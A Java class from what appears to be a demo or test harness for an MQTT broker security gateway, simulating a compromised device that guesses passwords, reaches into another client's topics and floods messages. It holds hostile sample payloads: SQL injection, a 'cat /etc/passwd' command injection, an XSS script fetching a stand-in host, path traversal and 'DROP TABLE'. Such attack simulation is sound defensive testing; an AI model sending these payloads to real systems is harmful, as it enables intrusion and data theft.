package io.mqttsentinel.allinone;

import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.Base64;
import java.util.HexFormat;
import java.util.Random;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CompletionException;
import org.eclipse.paho.mqttv5.common.MqttException;

/**
 * A device in the wrong hands: it knows one good password and tries everything in {@link Attack}.
 * Each round has client ids of its own, so that no round is judged by what an earlier one did.
 */
final class Attacker {

  private static final int OVERSIZED_BYTES = 100 * 1024;
  private static final int RANDOM_BYTES = 1024;
  private static final int BURST_MESSAGES = 500;

  private final String host;
  private final int port;
  private final Login login;
  private final DemoClient origin;
  private final String victim;
  private final AttackLedger ledger;
  private final Random random = new Random();

  /**
   * @param login one that any client id may use
   * @param origin a client of the origin broker, which does not look at what it carries
   * @param victim client id whose topics are tried
   */
  Attacker(
      String host, int port, Login login, DemoClient origin, String victim, AttackLedger ledger) {
    this.host = host;
    this.port = port;
    this.login = login;
    this.origin = origin;
    this.victim = victim;
    this.ledger = ledger;
  }

  /** Tries everything once. */
  void round(String name) throws MqttException {
    guessPassword("guesser-" + name);
    String clientId = "mallory-" + name;
    try (DemoClient client = connect(clientId, login)) {
      client.subscribe("clients/%s/#".formatted(clientId));
      reach(client, clientId, "clients/%s/alerts".formatted(victim));
      String topic = "clients/%s/telemetry".formatted(clientId);
      send(client, Attack.SQL_INJECTION, clientId, topic, "{\"name\":\"x' OR 1=1 --\"}");
      send(client, Attack.COMMAND_INJECTION, clientId, topic, "{\"host\":\"a; cat /etc/passwd\"}");
      send(client, Attack.XSS, clientId, topic, "<script>fetch('//evil.example')</script>");
      send(client, Attack.PATH_TRAVERSAL, clientId, topic, "{\"file\":\"../../../etc/passwd\"}");
      send(client, Attack.OVERSIZED, clientId, topic, "x".repeat(OVERSIZED_BYTES));
      send(client, Attack.RANDOM_BYTES, clientId, topic, randomBytes());
    }
    send(
        origin,
        Attack.ORIGIN_INJECTION,
        victim,
        "clients/%s/alerts".formatted(victim),
        "'; DROP TABLE users; -- " + name);
    burst("burster-" + name);
  }

  private void guessPassword(String clientId) throws MqttException {
    Attempt attempt = note(Attack.WRONG_CREDENTIALS, clientId, null, null);
    try {
      connect(clientId, new Login(login.username(), "password1")).close();
      attempt.answered(0);
    } catch (MqttException e) {
      if (!DemoClient.isReasonCode(e)) {
        throw e;
      }
      attempt.answered(e.getReasonCode());
    }
  }

  /** Tries a topic that belongs to somebody else. */
  private void reach(DemoClient client, String clientId, String topic) throws MqttException {
    String filter = topic.replace("/alerts", "/#");
    Attempt read = note(Attack.FOREIGN_SUBSCRIBE, clientId, filter, null);
    read.answered(client.subscribe(filter));
    byte[] payload = "ALERT".getBytes(StandardCharsets.UTF_8);
    Attempt write = note(Attack.FOREIGN_PUBLISH, clientId, topic, null);
    write.answered(publish(client, topic, payload, write.id()));
  }

  private void send(DemoClient client, Attack attack, String clientId, String topic, String payload)
      throws MqttException {
    byte[] bytes = payload.getBytes(StandardCharsets.UTF_8);
    Attempt attempt = note(attack, clientId, topic, sha256(bytes));
    attempt.answered(publish(client, topic, bytes, attempt.id()));
  }

  private void burst(String clientId) throws MqttException {
    try (DemoClient client = connect(clientId, login)) {
      Attempt attempt = note(Attack.BURST, clientId, null, null);
      String topic = "clients/%s/telemetry".formatted(clientId);
      byte[] payload = "{\"temperature\":21.5}".getBytes(StandardCharsets.UTF_8);
      for (int i = 0; i < BURST_MESSAGES; i++) {
        CompletableFuture<Integer> _ = client.publish(topic, payload, 0, attempt.id());
      }
      // In order behind the burst: when it is acknowledged, all of it has been read.
      attempt.answered(publish(client, topic, payload, attempt.id()));
    }
  }

  private DemoClient connect(String clientId, Login with) throws MqttException {
    return DemoClient.connect(
        host, port, clientId, with, (id, message) -> ledger.delivered(id), reason -> {});
  }

  private static int publish(DemoClient client, String topic, byte[] payload, String id)
      throws MqttException {
    try {
      return client.publish(topic, payload, 1, id).join();
    } catch (CompletionException e) {
      if (e.getCause() instanceof MqttException cause) {
        throw cause;
      }
      throw e;
    }
  }

  private Attempt note(Attack attack, String clientId, String topic, String payloadSha256) {
    Attempt attempt = new Attempt(attack, clientId, topic, payloadSha256);
    ledger.note(attempt);
    return attempt;
  }

  private String randomBytes() {
    byte[] bytes = new byte[RANDOM_BYTES];
    random.nextBytes(bytes);
    return Base64.getEncoder().encodeToString(bytes);
  }

  private static String sha256(byte[] bytes) {
    try {
      return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
    } catch (NoSuchAlgorithmException e) {
      throw new IllegalStateException("every JDK has SHA-256", e);
    }
  }
}
